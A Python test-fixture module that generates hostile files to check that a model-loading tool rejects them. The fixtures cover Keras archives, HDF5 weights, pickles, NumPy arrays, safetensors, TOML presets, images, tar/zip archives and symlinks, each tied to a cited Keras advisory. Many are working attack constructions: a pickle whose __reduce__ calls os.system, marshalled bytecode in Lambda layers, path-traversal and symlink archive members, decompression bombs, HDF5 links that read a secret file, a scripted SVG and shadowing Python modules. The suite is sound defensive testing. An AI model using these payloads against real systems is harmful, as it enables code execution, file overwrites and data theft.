"""Hostile files, each with what it would do if it were obeyed, and the words by which a person is told why it does not.

Every class of advisories on Keras' model files since 2024 is among them (the number stands beside it), and what archives, HDF5,
pickles, pictures, presets and names can do. All are made here; none was taken from anywhere.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

from tests.strangers.keras_files import add, archive, called, good, hdf5, keras, layer, legacy, network

SECRET = "the-secret-of-this-machine"
ESCAPE = "\x1b]0;owned\x07\u202egnp.<img src=x onerror=alert(1)>"


@dataclass(frozen=True)
class Trap:
    """What hostile files aim at: a secret to read, a marker that a command leaves, and a folder to write into."""

    folder: Path

    @property
    def secret(self) -> Path:
        return self.folder / "secret.txt"

    @property
    def marker(self) -> Path:
        return self.folder / "executed"

    @property
    def command(self) -> str:
        return f"touch {self.marker}"

    def set(self) -> None:
        self.folder.mkdir(parents=True)
        self.secret.write_text(SECRET * 100)
        with h5py.File(self.folder / "secret.h5", "w") as file:
            file["numbers"] = np.full(100, 4711.0, np.float32)

    def __reduce__(self) -> tuple[Any, ...]:
        """As a pickle it is a command."""
        return os.system, (self.command,)


Make = Callable[[Path, Trap], Path]


@dataclass(frozen=True)
class Specimen:
    name: str
    would: str
    words: str
    make: Make


ALL: list[Specimen] = []


def specimen(name: str, would: str, words: str) -> Callable[[Make], Make]:
    def note(make: Make) -> Make:
        ALL.append(Specimen(name, would, words, make))
        return make

    return note


def written(path: Path, content: bytes | str) -> Path:
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


# --- what a description of a network can ask of Keras -------------------------------------------------------


def described(name: str, would: str, words: str, tell: Callable[[Trap], Any]) -> None:
    specimen(name, would, words)(lambda path, trap: keras(path, tell(trap)))


def bytecode(trap: Trap) -> str:
    code = compile(f"__import__('os').system({trap.command!r})", "lambda", "eval")
    return base64.b64encode(marshal.dumps(code)).decode()


def lambda_layer(trap: Trap, **other: Any) -> dict[str, Any]:
    return layer(
        "Lambda", function={"class_name": "__lambda__", "config": {"code": bytecode(trap), "defaults": None}}, **other
    )


described(
    "lambda.keras", "run marshalled bytecode (CVE-2024-3660)", "a Lambda", lambda trap: network(lambda_layer(trap))
)
described(
    "lambda without module.keras", "the same past a safe mode that is not set (Keras 23048)", "a Lambda",
    lambda trap: network(lambda_layer(trap, module=None)),
)  # fmt: skip
described(
    "module.keras", "import any module and call it (CVE-2025-1550)", "os.system",
    lambda trap: network(layer("system", module="os", command=trap.command)),
)  # fmt: skip
described(
    "builtins.keras",
    "call exec (CVE-2025-1550)",
    "the function exec",
    lambda trap: network(called("builtins", "exec", trap.command)),
)
described(
    "download.keras", "fetch and unpack an archive by a function of Keras (CVE-2025-8747)", "the function get_file",
    lambda trap: network(called("keras.utils", "get_file", "x", "http://127.0.0.1:9/evil.tar")),
)  # fmt: skip
described(
    "unsafe.keras", "turn safe mode off from within (CVE-2025-9906)", "the function enable_unsafe_deserialization",
    lambda trap: network(called("keras.config", "enable_unsafe_deserialization"), lambda_layer(trap)),
)  # fmt: skip
described(
    "loads another.keras", "load a second model without safe mode (CVE-2025-8747)", "the function load_model",
    lambda trap: network(called("keras.models", "load_model", str(trap.folder / "second.keras"))),
)  # fmt: skip
described(
    "torch.keras", "unpickle a module of PyTorch (CVE-2025-49655)", "a TorchModuleWrapper",
    lambda trap: network(layer("TorchModuleWrapper", module_bytes=base64.b64encode(pickle.dumps(trap)).decode())),
)  # fmt: skip
described(
    "saved model.keras", "load a program of TensorFlow from a path (CVE-2026-1462)", "a TFSMLayer",
    lambda trap: network(layer("TFSMLayer", filepath=str(trap.folder))),
)  # fmt: skip
described(
    "jax.keras", "run a function of JAX", "a JaxLayer", lambda trap: network(layer("JaxLayer", call_fn=bytecode(trap)))
)
described(
    "words.keras", "read a file as a vocabulary (CVE-2025-12058)", "the file of a StringLookup",
    lambda trap: network(layer("StringLookup", vocabulary=str(trap.secret))),
)  # fmt: skip
described(
    "numbers.keras", "ask an address on the network for a vocabulary (CVE-2025-12058)", "the file of a IntegerLookup",
    lambda trap: network(layer("IntegerLookup", vocabulary="http://127.0.0.1:9/words")),
)  # fmt: skip
described(
    "text.keras", "read a file as a vocabulary", "the file of a TextVectorization",
    lambda trap: network(layer("TextVectorization", vocabulary=str(trap.secret))),
)  # fmt: skip
described(
    "popen.keras", "start a program as a class of its own", "subprocess.Popen",
    lambda trap: network(layer("Popen", module="subprocess", args=["touch", str(trap.marker)])),
)  # fmt: skip
described("deep config.keras", "overflow the stack", "nested too deeply", lambda trap: "[" * 300_000)
described(
    "class name.keras", "break the reader by a name that is none", "weights of 1 layer",
    lambda trap: network({"class_name": {"a": 1}, "module": ["os"], "config": {"name": {"b": 2}}}),
)  # fmt: skip
described("no config.keras", "confuse the reader", "no JSON", lambda trap: "\x00{")
described("long config.keras", "fill the memory", "more than 4 MB", lambda trap: "[" + "[]," * 2_000_000 + "[]]")
described(
    "layer names.keras",
    "write into a terminal, and show markup",
    "weights of 1 layer",
    lambda trap: network(layer(ESCAPE)),
)


@specimen("legacy lambda.h5", "run bytecode past safe mode, from the old form (CVE-2025-9905)", "a Lambda")
def _(path: Path, trap: Trap) -> Path:
    return written(
        path,
        legacy(
            lambda group: group.create_dataset("first/kernel:0", data=np.ones(3, "f4")), network(lambda_layer(trap))
        ),
    )


# --- what HDF5 can do -----------------------------------------------------------------------------------------


def stored(
    name: str, would: str, words: str, fill: Callable[[h5py.File, Trap], object], *, beside: bool = True
) -> None:
    """As a file of its own, and `beside` within a .keras file too."""

    def both(file: h5py.File, trap: Trap) -> None:
        good(file)
        fill(file, trap)

    specimen(f"{name}.weights.h5", would, words)(lambda path, trap: written(path, hdf5(lambda file: both(file, trap))))
    if beside:
        weights = lambda trap: hdf5(lambda file: both(file, trap))  # noqa: E731 - one line says it
        specimen(f"{name}.keras", would, words)(lambda path, trap: keras(path, weights=weights(trap)))


def dataset(file: h5py.File, shape: tuple[int, ...], **how: Any) -> h5py.Dataset:
    return file.create_dataset("layers/dense/vars/0", shape, "f4", **how)


stored(
    "external storage", "read another file as weights (CVE-2026-1669)", "lies in another file",
    lambda file, trap: dataset(file, (25,), external=[(str(trap.secret), 0, 100)]),
)  # fmt: skip
stored(
    "external link", "read another file's arrays (CVE-2026-1669)", "link to another file",
    lambda file, trap: file.__setitem__("layers/dense", h5py.ExternalLink(str(trap.folder / "secret.h5"), "/")),
)  # fmt: skip
stored(
    "soft link", "lead into a circle, or out by a mounted file", "soft link",
    lambda file, trap: file.__setitem__("layers/dense", h5py.SoftLink("/layers")), beside=False,
)  # fmt: skip


def virtual(file: h5py.File, trap: Trap) -> None:
    layout = h5py.VirtualLayout((100,), "f4")
    layout[:] = h5py.VirtualSource(str(trap.folder / "secret.h5"), "numbers", (100,))
    file.create_virtual_dataset("layers/dense/vars/0", layout)


stored("virtual", "read another file's arrays as a part of its own (Keras 22976)", "virtual array", virtual)
stored(
    "shape bomb",
    "ask for 9 PB of memory (CVE-2026-0897)",
    "MB",
    lambda file, trap: dataset(file, (50_000_000, 50_000_000)),
)
stored(
    "empty array",
    "ask for 1.5 GB of memory",
    "stores hardly anything",
    lambda file, trap: dataset(file, (20_000, 20_000)),
    beside=False,
)


def zeros(file: h5py.File, trap: Trap) -> None:
    each = dataset(file, (400, 1000, 1000), chunks=(4, 1000, 1000), compression="gzip")
    each.id.write_direct_chunk((0, 0, 0), zlib.compress(bytes(4 * 1000 * 1000 * 4), 9))


stored("swelling array", "unpack a little to 1.6 GB (CVE-2026-0897)", "stores hardly anything", zeros, beside=False)
stored(
    "large pieces", "unpack a piece of 400 MB", "pieces of more than",
    lambda file, trap: dataset(file, (10_000, 10_000), chunks=(10_000, 10_000), compression="gzip"), beside=False,
)  # fmt: skip
stored(
    "reference", "follow references", "no plain numbers",
    lambda file, trap: file.create_dataset("layers/dense/vars/0", data=[file.ref], dtype=h5py.ref_dtype), beside=False,
)  # fmt: skip
stored(
    "texts", "fill the memory with texts", "no plain numbers",
    lambda file, trap: file.create_dataset("layers/dense/vars/0", data=["x"] * 9, dtype=h5py.string_dtype()), beside=False,
)  # fmt: skip
stored(
    "table", "confuse the reader by a table", "no plain numbers",
    lambda file, trap: file.create_dataset("layers/dense/vars/0", data=np.zeros(3, [("a", "f4"), ("b", "S9")])), beside=False,
)  # fmt: skip
stored(
    "circle", "walk for ever", "circle", lambda file, trap: file.__setitem__("layers/dense", file["/"]), beside=False
)
stored("deep", "overflow the stack", "nested more than", lambda file, trap: file.create_group("/a" * 500), beside=False)
stored(
    "many",
    "walk for minutes",
    "groups and arrays",
    lambda file, trap: [file.create_group(f"g{n}") for n in range(20_100)],
    beside=False,
)


def strange_filter(file: h5py.File, trap: Trap) -> None:
    properties = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    properties.set_chunk((4,))
    properties.set_filter(32_008, h5py.h5z.FLAG_OPTIONAL)
    group = file.create_group("layers/dense/vars")
    h5py.h5d.create(group.id, b"0", h5py.h5t.IEEE_F32LE, h5py.h5s.create_simple((4,)), properties)


stored("filter", "load a filter from a library", "filter that is not known", strange_filter, beside=False)
stored(
    "names", "write into a terminal, and show markup", "weights of 2 layers",
    lambda file, trap: add(file, "dense", ESCAPE, np.ones((2, 3), "f4")),
)  # fmt: skip
stored(
    "twice", "have one layer's weights taken for another's", "more than once",
    lambda file, trap: add(file, "dense", "first", np.ones((2, 3), "f4")), beside=False,
)  # fmt: skip


@specimen("legacy link.h5", "read another file from the old form", "link to another file")
def _(path: Path, trap: Trap) -> Path:
    return written(
        path, legacy(lambda group: group.__setitem__("first", h5py.ExternalLink(str(trap.folder / "secret.h5"), "/")))
    )


@specimen("legacy path.h5", "name an array by a path that leads elsewhere", "does not hold")
def _(path: Path, trap: Trap) -> Path:
    def fill(group: h5py.Group) -> None:
        group.attrs["weight_names"] = ["/optimizer_weights/../../kernel:0"]

    return written(path, legacy(fill))


@specimen("half.h5", "break the reader", "damaged HDF5")
def _(path: Path, trap: Trap) -> Path:
    return written(path, hdf5()[:700])


@specimen("sparse.h5", "claim to have a terabyte", "damaged HDF5")
def _(path: Path, trap: Trap) -> Path:
    written(path, b"\x89HDF\r\n\x1a\n" + bytes(range(2, 200)))
    os.truncate(path, 1 << 40)
    return path


@specimen("scrambled.h5", "break the reader", "damage")
def _(path: Path, trap: Trap) -> Path:
    content = bytearray(hdf5())
    content[96:900:7] = b"\xff" * len(content[96:900:7])
    return written(path, content)


# --- archives ----------------------------------------------------------------------------------------------


@specimen("bomb.keras", "unpack 40 MB to 2 GB, or as much (Keras 23010)", "swells to more than")
def _(path: Path, trap: Trap) -> Path:
    keras(path, weights=b"", packing=zipfile.ZIP_DEFLATED)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("config.json", json.dumps(network()))
        with file.open("model.weights.h5", "w") as member:
            for _ in range(260):
                member.write(bytes(1 << 20))
    return path


@specimen("config bomb.keras", "unpack a description to 1 GB", "more than 4 MB")
def _(path: Path, trap: Trap) -> Path:
    return archive(path, {"config.json": bytes(64 << 20), "model.weights.h5": hdf5()}, zipfile.ZIP_DEFLATED)


@specimen("twice.keras", "show one description and use another", "more than once")
def _(path: Path, trap: Trap) -> Path:
    import warnings

    keras(path)
    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as file:
        warnings.simplefilter("ignore")
        file.writestr("config.json", json.dumps(network(lambda_layer(trap))))
    return path


def flags(content: bytes, name: bytes, flag: int) -> bytes:
    """The list of members with a flag set on one."""
    changed = bytearray(content)
    place = content.rfind(name) - 46
    changed[place + 8] |= flag
    return bytes(changed)


@specimen("locked.keras", "hide what is in it", "locked with a password")
def _(path: Path, trap: Trap) -> Path:
    return written(path, flags(keras(path).read_bytes(), b"config.json", 1))


@specimen("lzma.keras", "take gigabytes for a dictionary", "packed in a way")
def _(path: Path, trap: Trap) -> Path:
    return keras(path, packing=zipfile.ZIP_LZMA)


@specimen("damaged recipe.keras", "break the reader by a recipe that is packed in another way", "weights of 1 layer")
def _(path: Path, trap: Trap) -> Path:
    keras(path)
    name = "workbench/recipe.toml"
    with zipfile.ZipFile(path, "a") as file:
        file.writestr(zipfile.ZipInfo(name), "format = 1\n" * 100, zipfile.ZIP_LZMA)
    content = bytearray(path.read_bytes())
    # Behind the name: the version of the packer, the length of its settings, the settings.
    start = bytes(content).index(name.encode()) + len(name) + 4
    content[start : start + 30] = b"\xff" * 30
    return written(path, content)


@specimen("elsewhere.keras", "read beyond the file", "does not lie")
def _(path: Path, trap: Trap) -> Path:
    content = bytearray(keras(path).read_bytes())
    place = bytes(content).rfind(b"model.weights.h5") - 46
    content[place + 42 : place + 46] = struct.pack("<L", 1 << 30)
    return written(path, content)


@specimen("far.keras", "break the reader by a place beyond all files", "does not lie")
def _(path: Path, trap: Trap) -> Path:
    """Where the weights lie, in 64 bits."""
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("config.json", json.dumps(network()))
        weights = zipfile.ZipInfo("model.weights.h5")
        weights.extra = struct.pack("<2H8x", 1, 8)
        file.writestr(weights, hdf5())
    content = bytearray(path.read_bytes())
    place = bytes(content).rfind(b"model.weights.h5") - 46
    content[place + 42 : place + 46] = b"\xff" * 4
    behind = place + 46 + len("model.weights.h5") + 4
    content[behind : behind + 8] = b"\xff" * 8
    return written(path, content)


@specimen("half.keras", "break the reader", "cut off")
def _(path: Path, trap: Trap) -> Path:
    return written(path, keras(path).read_bytes()[:-40])


@specimen("no weights.keras", "have weights read from elsewhere", "not in it as model.weights.h5")
def _(path: Path, trap: Trap) -> Path:
    return archive(path, {"config.json": json.dumps(network()), "metadata.json": "{}"})


@specimen("climbing.zip", "write outside when it is unpacked", "lead out of its folder")
def _(path: Path, trap: Trap) -> Path:
    return archive(path, {"../../executed": b"x", "cat/1.png": b"x"})


@specimen("absolute.zip", "write anywhere when it is unpacked", "lead out of its folder")
def _(path: Path, trap: Trap) -> Path:
    return archive(path, {str(trap.marker): b"x"})


@specimen("linked.zip", "write through a link when it is unpacked (Keras 23015)", "Unpack it")
def _(path: Path, trap: Trap) -> Path:
    with zipfile.ZipFile(path, "w") as file:
        link = zipfile.ZipInfo("cat")
        link.external_attr = 0o120777 << 16
        file.writestr(link, str(trap.folder))
        file.writestr("cat/executed", b"x")
    return path


def crowded_list(count: int) -> bytes:
    """A list of so many members that are not there."""
    entry = struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 8, 0, 0, 0, 0, 0, 0)
    return b"".join(entry + b"%08d" % number for number in range(count))


def crowd() -> bytes:
    """An archive with a list of 3 MB and nothing else."""
    names = crowded_list(60_000)
    return b"PK\3\4" + names + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 60_000, 60_000, len(names), 4, 0)


@specimen("crowded.zip", "fill the memory with names", "list of members")
def _(path: Path, trap: Trap) -> Path:
    return written(path, crowd())


@specimen("crowded.tflite", "fill the memory with names, before a recipe is looked for", "TensorFlow Lite")
def _(path: Path, trap: Trap) -> Path:
    return written(path, bytes(4) + b"TFL3" + crowd())


@specimen("behind a comment.zip", "hide how long the list of members is behind a comment", "list of members")
def _(path: Path, trap: Trap) -> Path:
    count, names = 60_000, crowded_list(60_000)
    end = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(names), 4)
    where = struct.pack("<4sLQL", b"PK\6\7", 0, 4 + len(names), 1)
    short = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, 54, 4, 0xFFFF)
    return written(path, b"PK\3\4" + names + end + where + short + bytes(0xFFFF))


@specimen("lying.zip", "have 4 GB of names read", "list of members")
def _(path: Path, trap: Trap) -> Path:
    return written(path, b"PK\3\4" + bytes(60) + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, 0xF0000000, 4, 0))


@specimen("torch.pt", "run a pickle", "PyTorch")
def _(path: Path, trap: Trap) -> Path:
    return archive(path, {"archive/data.pkl": pickle.dumps(trap), "archive/version": b"3"})


def tar(path: Path, mode: str, *members: tuple[str, bytes, str]) -> Path:
    """Members by name, kind and what they link to."""
    with tarfile.open(path, mode) as file:  # type: ignore[call-overload] # the mode is a test's own
        for name, kind, link in members:
            each = tarfile.TarInfo(name)
            each.type, each.linkname, each.size = kind, link, 4 if kind == tarfile.REGTYPE else 0
            file.addfile(each, io.BytesIO(b"evil") if kind == tarfile.REGTYPE else None)
    return path


@specimen("climbing.tar", "write outside when it is unpacked (CVE-2025-12060)", "tar archive")
def _(path: Path, trap: Trap) -> Path:
    return tar(path, "w", ("../../executed", tarfile.REGTYPE, ""))


@specimen("linked.tar", "write through a hard link (CVE-2024-55459, Keras 22973)", "tar archive")
def _(path: Path, trap: Trap) -> Path:
    return tar(
        path,
        "w",
        ("a", tarfile.LNKTYPE, str(trap.secret)),
        ("b", tarfile.SYMTYPE, str(trap.folder)),
        ("b/executed", tarfile.REGTYPE, ""),
    )


@specimen("climbing.tar.gz", "the same, compressed", "compressed")
def _(path: Path, trap: Trap) -> Path:
    return tar(path, "w:gz", ("../../executed", tarfile.REGTYPE, ""))


@specimen("tar named.keras", "be unpacked as something else", "tar archive")
def _(path: Path, trap: Trap) -> Path:
    return tar(path, "w", ("../../executed", tarfile.REGTYPE, ""))


@specimen("bomb.gz", "unpack to 1 GB", "compressed")
def _(path: Path, trap: Trap) -> Path:
    return written(path, b"\x1f\x8b\x08" + bytes(7) + zlib.compress(bytes(16 << 20), 9)[2:])


# --- pickles, NumPy, safetensors ----------------------------------------------------------------------------

for ending in ("pkl", "h5", "keras", "safetensors", "npz", "toml"):
    specimen(f"pickle.{ending}", "run a command when it is unpickled", "pickle")(
        lambda path, trap: written(path, pickle.dumps(trap, 4))
    )


@specimen("old pickle.pkl", "run a command, in a pickle that is text", "It is a text")
def _(path: Path, trap: Trap) -> Path:
    return written(path, pickle.dumps(trap, 0))


def npy(header: str, content: bytes = b"") -> bytes:
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header.encode() + content


def array(shape: tuple[int, ...], kind: str = "|u1", content: bytes = b"") -> bytes:
    return npy(f"{{'descr': '{kind}', 'fortran_order': False, 'shape': {shape}, }}\n", content)


LABELS = array((2,), "<i8", bytes(16))


@specimen("objects.npz", "unpickle objects", "Python objects")
def _(path: Path, trap: Trap) -> Path:
    objects = io.BytesIO()
    np.save(objects, np.array([trap], dtype=object), allow_pickle=True)
    return archive(path, {"x.npy": objects.getvalue(), "y.npy": LABELS})


@specimen("object.npy", "unpickle objects", "single array")
def _(path: Path, trap: Trap) -> Path:
    objects = io.BytesIO()
    np.save(objects, np.array([trap], dtype=object), allow_pickle=True)
    return written(path, objects.getvalue())


@specimen("huge.npz", "ask for a petabyte", "pictures and")
def _(path: Path, trap: Trap) -> Path:
    return archive(path, {"x.npy": array((10**9, 1000, 1000)), "y.npy": LABELS})


@specimen("short.npz", "ask for far more than is stored (Keras 23016)", "cut off")
def _(path: Path, trap: Trap) -> Path:
    return archive(path, {"x.npy": array((400_000, 8, 8)), "y.npy": array((400_000,), "<i8", bytes(16))})


@specimen("code.npz", "run code from an array's header", "no array")
def _(path: Path, trap: Trap) -> Path:
    header = f"{{'descr': __import__('os').system({trap.command!r}), 'fortran_order': False, 'shape': (1,), }}\n"
    return archive(path, {"x.npy": npy(header), "y.npy": LABELS})


@specimen("deep.npz", "overflow the stack from an array's header", "no array")
def _(path: Path, trap: Trap) -> Path:
    return archive(path, {"x.npy": npy("(" * 9_000), "y.npy": LABELS})


@specimen("lzma.npz", "take gigabytes for a dictionary", "packed in a way")
def _(path: Path, trap: Trap) -> Path:
    return archive(path, {"x.npy": array((2, 8, 8), content=bytes(128)), "y.npy": LABELS}, zipfile.ZIP_LZMA)


def tensors(header: Any, content: bytes = b"", length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + content


def described_tensor(words: str, name: str, would: str, told: Any, content: bytes = bytes(16)) -> None:
    specimen(f"{name}.safetensors", would, words)(
        lambda path, trap: written(path, tensors({"a/kernel": told}, content))
    )


specimen("header.safetensors", "ask for exabytes for its header", "Its header claims")(
    lambda path, trap: written(path, tensors(b"{}", length=1 << 62))
)
specimen("long header.safetensors", "read beyond its end", "Its header claims")(
    lambda path, trap: written(path, tensors(b"{}", length=5_000))
)
specimen("deep header.safetensors", "overflow the stack", "nested too deeply")(
    lambda path, trap: written(path, tensors(b'{"a":' + b"[" * 300_000))
)
specimen("names.safetensors", "write into a terminal, and show markup", "weights of 1 layer")(
    lambda path, trap: written(
        path, tensors({f"{ESCAPE}/kernel": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, bytes(16))
    )
)
described_tensor(
    "does not lie",
    "beyond",
    "read beyond its end",
    {"dtype": "F32", "shape": [4], "data_offsets": [1 << 40, (1 << 40) + 16]},
)
described_tensor(
    "does not lie", "backwards", "read before its beginning", {"dtype": "F32", "shape": [4], "data_offsets": [-16, 0]}
)
described_tensor(
    "MB", "shape", "ask for exabytes", {"dtype": "F32", "shape": [1 << 30, 1 << 30], "data_offsets": [0, 16]}
)
described_tensor(
    "which no network has", "axes", "overflow", {"dtype": "F32", "shape": [1] * 5_000, "data_offsets": [0, 4]}
)
described_tensor("cannot be read", "type", "confuse the reader", {"dtype": "O", "shape": [4], "data_offsets": [0, 16]})


# --- presets ---------------------------------------------------------------------------------------------------


def preset(name: str, would: str, words: str, text: str) -> None:
    specimen(f"{name}.toml", would, words)(lambda path, trap: written(path, text))


preset("deep", "overflow the stack", "recursion", f"format = 1\nx = {'[' * 100_000}")
preset("tables", "overflow the stack", "nested more than", "[a.b.c.d.e.f.g]\nx = 1")
preset("dotted", "take minutes to read", "dots", ".".join(["a"] * 100_000) + " = 1")
LONG_NAME = ".".join(["b"] * 200)
preset(
    "dotted lines", "take seconds to read", "dots outside of texts",
    f"[{LONG_NAME}]\n" + "".join(f"{LONG_NAME}.k{number} = 1\n" for number in range(600)),
)  # fmt: skip
preset("large", "fill the memory", "bytes", "# " + "x" * (300 << 10))
preset(
    "crowded", "fill a window with problems", "settings", "format = 1\n" + "\n".join(f"k{n} = 1" for n in range(20_000))
)
preset("nan", "train with a rate that is no number", "finite", "format = 1\n[optimizer]\nlearning_rate = nan")
preset("endless", "train for ever", "at most", "format = 1\n[training]\nepochs = 1e400")
preset("number", "break the reader by a number", "whole number", f"format = 1\n[training]\nepochs = 0x{'9' * 100_000}")
preset(
    "names",
    "write into a terminal, and show markup",
    "control characters",
    'format = 1\n"\\u001b]0;x\\u0007\\u202e<b>" = 1',
)
preset("class", "have a class looked up by its name", "must be one of", 'format = 1\n[model]\nkind = "os.system"')
preset(
    "code",
    "have an expression worked out",
    "must be a whole number",
    "format = 1\n[training]\nepochs = \"__import__('os').getpid()\"",
)
specimen("utf16.toml", "confuse the reader", "not known here")(
    lambda path, trap: written(path, "format = 1".encode("utf-16-le") + b"\xff")
)


# --- pictures --------------------------------------------------------------------------------------------------


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))


def png(width: int, height: int, *more: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


specimen("large.png", "ask for 2.7 GB of pixels", "more pixels than")(
    lambda path, trap: written(path, png(30_000, 30_000))
)
specimen("text.png", "unpack a note to 1 GB", "picture")(
    lambda path, trap: written(path, png(8, 8, chunk(b"zTXt", b"note\0\0" + zlib.compress(bytes(64 << 20), 9))))
)
specimen("large.gif", "ask for 4 GB of pixels", "more pixels than")(
    lambda path, trap: written(
        path,
        b"GIF89a"
        + struct.pack("<2H3B", 65_535, 65_535, 0, 0, 0)
        + b","
        + struct.pack("<4HB", 0, 0, 65_535, 65_535, 0)
        + b"\2\0;",
    )
)
specimen("half.jpg", "break the reader", "picture that cannot be used")(
    lambda path, trap: written(path, b"\xff\xd8\xff\xe0\0\x10JFIF")
)
specimen("scripted.svg", "run a script in a picture", "It is a text")(
    lambda path, trap: written(path, "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")
)
specimen("program.eps", "start Ghostscript", "It is a text")(
    lambda path, trap: written(path, f"%!PS-Adobe-3.0 EPSF-3.0\n({trap.marker}) (w) file\n")
)


@specimen("large.tiff", "ask for exabytes of pixels", "pixels")
def _(path: Path, trap: Trap) -> Path:
    entries = [
        (256, 4, 1, 1 << 31),
        (257, 4, 1, 1 << 31),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (277, 3, 1, 1),
        (279, 4, 1, 8),
    ]
    table = struct.pack("<H", len(entries)) + b"".join(struct.pack("<2HLL", *entry) for entry in entries) + bytes(4)
    return written(path, b"II*\0" + struct.pack("<L", 8) + table)


# --- things that are no files of their own ---------------------------------------------------------------------------


@specimen("link.keras", "have another file read", "is a link")
def _(path: Path, trap: Trap) -> Path:
    path.symlink_to(trap.secret)
    return path


@specimen("linked folder", "have another folder read", "is a link")
def _(path: Path, trap: Trap) -> Path:
    path.symlink_to(trap.folder)
    return path


@specimen("channel.h5", "make the reader wait for ever", "device or a channel")
def _(path: Path, trap: Trap) -> Path:
    os.mkfifo(path)
    return path


@specimen("recipe folder", "have another file read as its recipe", "may hold pictures")
def _(path: Path, trap: Trap) -> Path:
    path.mkdir()
    (path / "recipe.toml").symlink_to(trap.secret)
    return path


@specimen("saved model", "run a program of TensorFlow", "SavedModel")
def _(path: Path, trap: Trap) -> Path:
    path.mkdir()
    written(path / "saved_model.pb", b"\x08\x01")
    return path


@specimen("script.h5", "be started", "no program is ever started")
def _(path: Path, trap: Trap) -> Path:
    written(path, f"#!/bin/sh\n{trap.command}\n").chmod(0o755)
    return path


@specimen("program.keras", "be started", "no program is ever started")
def _(path: Path, trap: Trap) -> Path:
    return written(path, b"\x7fELF" + bytes(100))


@specimen("model.tflite", "be run by a delegate", "TensorFlow Lite")
def _(path: Path, trap: Trap) -> Path:
    return written(path, bytes(4) + b"TFL3" + bytes(100))


@specimen("model.onnx", "read weights from ../../secret.txt", "not known here")
def _(path: Path, trap: Trap) -> Path:
    return written(
        path, b"\x08\x08\x3a\x40" + bytes(2) + f"location{os.path.relpath(trap.secret, path.parent)}".encode()
    )


@specimen("bad recipe.onnx", "fill the form with nonsense", "recipe that cannot be used")
def _(path: Path, trap: Trap) -> Path:
    text = b"format = 1\n[model]\nkind = '\\x1b<b>'"
    note = b"\x0a\x10workbench.recipe\x12" + bytes([len(text)]) + text
    return written(path, b"\x08\x08\x72" + bytes([len(note)]) + note)


@specimen("empty.keras", "break the reader", "It is empty")
def _(path: Path, trap: Trap) -> Path:
    return written(path, b"")


@specimen(f"{ESCAPE.replace('/', '')}.keras", "write into a terminal, and show markup", "a Lambda")
def _(path: Path, trap: Trap) -> Path:
    return keras(path, network(lambda_layer(trap)))


@specimen("with modules.zip", "have its neighbours imported", "Unpack it")
def _(path: Path, trap: Trap) -> Path:
    for name in ("zipfile.py", "json.py", "h5py.py", "workbench.py"):
        written(path.parent / name, f"__import__('os').system({trap.command!r})")
    return archive(path, {"cat/1.png": b"x"})
